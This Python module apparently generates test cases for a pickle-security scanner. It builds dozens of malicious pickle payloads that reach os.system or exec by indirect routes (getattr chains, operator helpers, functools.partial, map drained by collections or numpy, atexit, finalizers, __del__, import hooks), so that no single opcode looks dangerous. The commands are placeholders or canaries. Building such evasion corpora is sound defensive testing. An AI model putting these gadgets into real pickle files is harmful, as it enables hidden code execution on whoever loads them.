"""Callables that call others: nothing dangerous is called by an opcode of its own."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from corpora.assembly import COMMAND, SOURCE, applied, call
from corpora.case import Case, Technique
from telamon.kits.attacks.pickles import NEWOBJ, Program

if TYPE_CHECKING:
    from collections.abc import Iterator

SYSTEM: Final = Program(protocol=4).global_("os", "system")
EXEC: Final = Program(protocol=4).global_("builtins", "exec")
OS: Final = call("builtins", "__import__", "os")


def cases() -> Iterator[Case]:
    """Yield each construction."""
    for name, program in _chains():
        yield Case(name=name, technique=Technique.INDIRECTION, data=program.finished())


def _chains() -> Iterator[tuple[str, Program]]:
    yield from _attributes()
    yield from _appliers()
    yield from _deferred()


def _attributes() -> Iterator[tuple[str, Program]]:
    yield "getattr-of-import", applied(call("builtins", "getattr", OS, "system"), COMMAND)
    yield (
        "getattr-of-import-module",
        applied(call("builtins", "getattr", call("importlib", "import_module", "os"), "system"), COMMAND),
    )
    modules = call("builtins", "getattr", Program(protocol=4).global_("collections", "_sys"), "modules")
    yield "getattr-of-harmless-module", _system_of(call("operator", "getitem", modules, "os"))
    yield "attrgetter", applied(applied(call("operator", "attrgetter", "system"), OS), COMMAND)
    yield "attrgetter-private-module", applied(applied(call("_operator", "attrgetter", "system"), OS), COMMAND)
    yield (
        "attrgetter-dotted",
        applied(
            applied(call("operator", "attrgetter", "os.system"), call("builtins", "__import__", "shutil")), COMMAND
        ),
    )
    yield "methodcaller", applied(call("operator", "methodcaller", "system", COMMAND), OS)
    yield (
        "methodcaller-on-harmless-module",
        applied(call("operator", "methodcaller", "system", COMMAND), Program(protocol=4).global_("shutil", "os")),
    )
    modules = Program(protocol=4).global_("sys", "modules")
    yield "itemgetter-of-modules", _system_of(applied(call("operator", "itemgetter", "os"), modules))
    yield "getitem-of-modules", _system_of(call("operator", "getitem", modules, "os"))
    yield "getitem-of-vars", applied(call("operator", "getitem", call("builtins", "vars", OS), "system"), COMMAND)
    names = call("builtins", "getattr", Program(protocol=4).global_("collections", "namedtuple"), "__globals__")
    builtins_ = call("operator", "getitem", names, "__builtins__")
    yield "globals-of-function", applied(call("operator", "getitem", builtins_, "exec"), SOURCE)
    handler = Program(protocol=4).global_("logging", "StreamHandler")
    children = applied(call("builtins", "getattr", handler, "__subclasses__"))
    yield "subclasses-of-a-class", applied(call("operator", "getitem", children, 0), "telamon-canary")
    attribute = Program(protocol=4).global_("builtins", "object.__getattribute__")
    yield "getattribute-of-object", applied(applied(attribute, OS, "system"), COMMAND)
    yield "resolve-name", applied(call("pkgutil", "resolve_name", "os:system"), COMMAND)
    yield "locate", applied(call("pydoc", "locate", "os.system"), COMMAND)
    yield "unittest-importer", _system_of(call("unittest.mock", "_importer", "os"))
    yield "logging-resolver", applied(call("logging.config", "_resolve", "os.system"), COMMAND)
    yield "ctypes-function", applied(call("builtins", "getattr", call("ctypes", "CDLL", None), "system"), b"true")


def _system_of(module: Program) -> Program:
    return applied(call("builtins", "getattr", module, "system"), COMMAND)


def _appliers() -> Iterator[tuple[str, Program]]:
    yield "partial", applied(call("functools", "partial", SYSTEM, COMMAND))
    yield "partial-private-module", applied(call("_functools", "partial", SYSTEM, COMMAND))
    yield "partial-of-partial", applied(call("functools", "partial", call("functools", "partial", SYSTEM), COMMAND))
    yield (
        "reduce-getattr",
        applied(
            call("functools", "reduce", Program(protocol=4).global_("builtins", "getattr"), ["system"], OS), COMMAND
        ),
    )
    yield "reduce-of-exec", call("functools", "reduce", EXEC, [SOURCE, {}])
    for drain in ("list", "tuple", "set", "sum", "any", "max", "dict"):
        yield f"{drain}-of-map", call("builtins", drain, call("builtins", "map", SYSTEM, [COMMAND]))
    yield "list-of-filter", call("builtins", "list", call("builtins", "filter", SYSTEM, [COMMAND]))
    yield "starmap", call("builtins", "list", call("itertools", "starmap", SYSTEM, [(COMMAND,)]))
    yield "takewhile", call("builtins", "list", call("itertools", "takewhile", SYSTEM, [COMMAND]))
    yield "groupby", call("builtins", "list", call("itertools", "groupby", [COMMAND], SYSTEM))
    yield "accumulate", call("builtins", "list", call("itertools", "accumulate", [SOURCE, {}], EXEC))
    yield "deque-of-map", call("collections", "deque", call("builtins", "map", SYSTEM, [COMMAND]))
    yield "counter-of-map", call("collections", "Counter", call("builtins", "map", SYSTEM, [COMMAND]))
    yield "ordered-dict-of-map", call("collections", "OrderedDict", call("builtins", "map", SYSTEM, [COMMAND]))
    yield (
        "join-of-map",
        applied(Program(protocol=4).global_("builtins", "str.join"), "", call("builtins", "map", SYSTEM, [COMMAND])),
    )
    yield "array-of-map", call("array", "array", "i", call("builtins", "map", SYSTEM, [COMMAND]))
    yield "numpy-vectorize", applied(call("numpy", "vectorize", SYSTEM), [COMMAND])
    yield "numpy-frompyfunc", applied(call("numpy", "frompyfunc", SYSTEM, 1, 1), [COMMAND])
    yield "numpy-fromiter", call("numpy", "fromiter", call("builtins", "map", SYSTEM, [COMMAND]), "i4")
    yield (
        "pandas-series-apply",
        applied(Program(protocol=4).global_("pandas", "Series.apply"), call("pandas", "Series", [COMMAND]), SYSTEM),
    )
    yield (
        "starmap-by-newobj",
        call(
            "builtins",
            "tuple",
            Program(protocol=4)
            .global_("itertools", "starmap")
            .raw(b"(" + SYSTEM.body + b"](")
            .text(COMMAND)
            .raw(b"\x85et" + NEWOBJ),
        ),
    )
    yield "torch-map", call("torch.utils._pytree", "tree_map", SYSTEM, [COMMAND])
    yield (
        "next-of-iter",
        call("builtins", "next", call("builtins", "iter", call("functools", "partial", SYSTEM, COMMAND), 1)),
    )
    yield "callable-by-dunder-call", applied(call("builtins", "getattr", SYSTEM, "__call__"), COMMAND)
    made = Program(protocol=4).global_("builtins", "type.__call__")
    yield "type-call", applied(applied(made, Program(protocol=4).global_("functools", "partial"), SYSTEM, COMMAND))


def _deferred() -> Iterator[tuple[str, Program]]:
    partial = call("functools", "partial", SYSTEM, COMMAND)
    yield "default-factory", call("operator", "getitem", call("collections", "defaultdict", partial), "x")
    yield "default-factory-later", call("collections", "defaultdict", partial)
    yield "partial-later", partial
    yield "method-type", applied(call("types", "MethodType", SYSTEM, COMMAND))
    yield (
        "finalizer",
        call("weakref", "finalize", Program(protocol=4).global_("collections", "Counter"), SYSTEM, COMMAND),
    )
    yield "exit-handler", call("atexit", "register", SYSTEM, COMMAND)
    yield "timer", applied(call("operator", "methodcaller", "start"), call("threading", "Timer", 0, SYSTEM, [COMMAND]))
    yield (
        "thread-pool",
        applied(
            call("operator", "methodcaller", "submit", SYSTEM, COMMAND),
            call("concurrent.futures", "ThreadPoolExecutor"),
        ),
    )
    stack = call("contextlib", "ExitStack").raw(b"\x94")
    called_back = applied(Program(protocol=4).global_("contextlib", "ExitStack.callback"), stack, SYSTEM, COMMAND)
    close = Program(protocol=4).global_("contextlib", "ExitStack.close")
    yield "exit-stack", applied(called_back.raw(b"0" + close.body), Program().raw(b"h\x00"))
    yield "class-with-destructor", applied(call("builtins", "type", "X", (), {"__del__": partial})).raw(b"0N")
    yield "class-body", call("types", "new_class", "X", (), {}, call("functools", "partial", EXEC, SOURCE))
    yield "single-dispatch", applied(call("functools", "singledispatch", SYSTEM), COMMAND)
    yield "lru-cache", applied(call("functools", "lru_cache", SYSTEM), COMMAND)
    yield "copier", call("copy", "_reconstruct", None, None, SYSTEM, (COMMAND,))
    append = Program(protocol=4).global_("builtins", "list.append")
    hooked = applied(append, Program(protocol=4).global_("sys", "path_hooks"), SYSTEM)
    listed = applied(append, Program(protocol=4).global_("sys", "path"), COMMAND)
    yield "import-hook", Program(protocol=4).raw(hooked.body + b"0" + listed.body + b"0cnowhere\nx\n")
    registered = call("codecs", "register", SYSTEM)
    yield (
        "codec-registry",
        Program(protocol=4).raw(registered.body + b"0" + call("_codecs", "encode", "x", "true").body),
    )
